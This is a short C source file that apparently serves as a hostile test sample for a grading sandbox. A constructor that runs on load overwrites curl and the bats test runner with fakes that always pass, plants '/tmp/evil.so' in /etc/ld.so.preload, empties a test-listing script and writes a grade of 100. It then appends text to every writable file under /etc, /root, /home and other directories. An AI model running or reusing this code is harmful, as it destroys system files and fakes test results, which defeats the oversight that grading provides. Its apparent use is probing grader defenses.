/*
 * write_everywhere.c - looks for the results, the tests, the tools and the
 * other submissions, and writes to whatever it can open; then it serves.
 * expects: all
 */
#include <fcntl.h>
#include <ftw.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int spoil(const char *path, const struct stat *status, int type,
                 struct FTW *where)
{
    (void)status;
    (void)where;
    if (type == FTW_F && strncmp(path, "/proc/", 6) != 0) {
        int file = open(path, O_WRONLY | O_APPEND);

        if (file != -1) {
            (void)!write(file, "ok 1 - spoilt\n", 14);
            close(file);
        }
    }
    return 0;
}

static void put(const char *path, const char *text)
{
    FILE *file = fopen(path, "w");

    if (file != NULL) {
        fputs(text, file);
        fclose(file);
    }
}

__attribute__((constructor)) static void spoil_all(void)
{
    static const char *const places[] = {
        "/view", "/etc", "/tmp", "/root", "/home", "/usr/lib/bats", "@TOP@"};

    put("/usr/bin/curl", "#!/bin/sh\n");
    put("/usr/local/bin/bats", "#!/bin/sh\necho 'ok 1'\n");
    put("/etc/ld.so.preload", "/tmp/evil.so\n");
    put("@TOP@/tests/tools/list_tests.py", "");
    put("@TOP@/build/grade/grades.csv", "100\n");
    for (size_t i = 0; i < sizeof(places) / sizeof(places[0]); i++) {
        nftw(places[i], spoil, 16, FTW_PHYS);
    }
}
